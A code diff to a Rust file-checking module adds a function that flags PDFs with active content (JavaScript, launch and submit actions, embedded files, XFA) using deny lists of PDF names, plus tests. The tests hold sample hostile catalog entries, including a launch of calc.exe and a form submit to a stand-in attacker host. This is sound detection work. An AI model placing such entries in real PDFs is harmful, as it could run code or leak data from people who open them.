@@ -112,6 +112,47 @@ fn check_pdf(path: &Path) -> Result<(), Rejection> {
     Ok(())
 }
 
+/// Whether a PDF carries content a viewer would run or open: JavaScript, launch and submit
+/// actions, actions triggered by events (`/AA`), embedded files, rich media, XFA forms. Such a
+/// file is kept (a real form may have it) but never opened in a browser's viewer. A PDF that does
+/// not parse counts as active: it cannot be shown to be safe.
+pub fn has_active_content(bytes: &[u8]) -> bool {
+    match lopdf::Document::load_mem(bytes) {
+        Ok(doc) => {
+            doc.objects.values().any(is_active) || doc.trailer.iter().any(|(k, v)| active_key(k) || is_active(v))
+        }
+        Err(_) => true,
+    }
+}
+
+const ACTIVE_KEYS: [&[u8]; 8] = [b"JS", b"JavaScript", b"AA", b"EmbeddedFiles", b"EF", b"RichMedia", b"XFA", b"Launch"];
+const ACTIVE_NAMES: [&[u8]; 8] = [
+    b"JavaScript",
+    b"Launch",
+    b"SubmitForm",
+    b"ImportData",
+    b"GoToE",
+    b"RichMediaExecute",
+    b"EmbeddedFile",
+    b"Rendition",
+];
+
+fn active_key(key: &[u8]) -> bool {
+    ACTIVE_KEYS.contains(&key)
+}
+
+fn is_active(object: &lopdf::Object) -> bool {
+    use lopdf::Object;
+    let dict_active = |d: &lopdf::Dictionary| d.iter().any(|(k, v)| active_key(k) || is_active(v));
+    match object {
+        Object::Name(n) => ACTIVE_NAMES.contains(&n.as_slice()),
+        Object::Array(items) => items.iter().any(is_active),
+        Object::Dictionary(d) => dict_active(d),
+        Object::Stream(s) => dict_active(&s.dict),
+        _ => false,
+    }
+}
+
 /// A PNG's width and height, read from its IHDR chunk (always first, at a fixed place).
 fn png_dimensions(path: &Path) -> Option<(u32, u32)> {
     let mut head = [0u8; 24];
@@ -204,4 +245,51 @@ pub fn photo_facts(path: &Path) -> Option<(bool, u32, u32, u64)> {
         }
     };
     Some((kind == Kind::Jpeg, w, h, bytes))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::has_active_content;
+
+    /// A one-page PDF whose catalog carries `extra`.
+    fn pdf(extra: &str) -> Vec<u8> {
+        let objects = [
+            format!("<< /Type /Catalog /Pages 2 0 R {extra} >>"),
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>".to_owned(),
+        ];
+        let mut out = b"%PDF-1.4\n".to_vec();
+        let mut offsets = Vec::new();
+        for (i, o) in objects.iter().enumerate() {
+            offsets.push(out.len());
+            out.extend(format!("{} 0 obj\n{o}\nendobj\n", i + 1).as_bytes());
+        }
+        let xref = out.len();
+        out.extend(b"xref\n0 4\n0000000000 65535 f \n");
+        for o in offsets {
+            out.extend(format!("{o:010} 00000 n \n").as_bytes());
+        }
+        out.extend(format!("trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n").as_bytes());
+        out
+    }
+
+    #[test]
+    fn scripts_launches_and_embedded_files_are_active_content() {
+        assert!(!has_active_content(&pdf("")));
+        assert!(!has_active_content(&pdf("/OpenAction [3 0 R /Fit]")), "opening on a page is fine");
+        assert!(!has_active_content(&pdf("/Names << /Dests << >> >>")));
+        for active in [
+            "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
+            "/OpenAction << /S /Launch /F (calc.exe) >>",
+            "/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>",
+            "/Names << /EmbeddedFiles << /Names [] >> >>",
+            "/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>",
+            "/AcroForm << /XFA [] >>",
+            // A name written with #-escapes is the same name.
+            "/OpenAction << /S /J#61vaScript >>",
+        ] {
+            assert!(has_active_content(&pdf(active)), "{active}");
+        }
+        assert!(has_active_content(b"%PDF-1.4 not really"), "unparseable counts as active");
+    }
 }
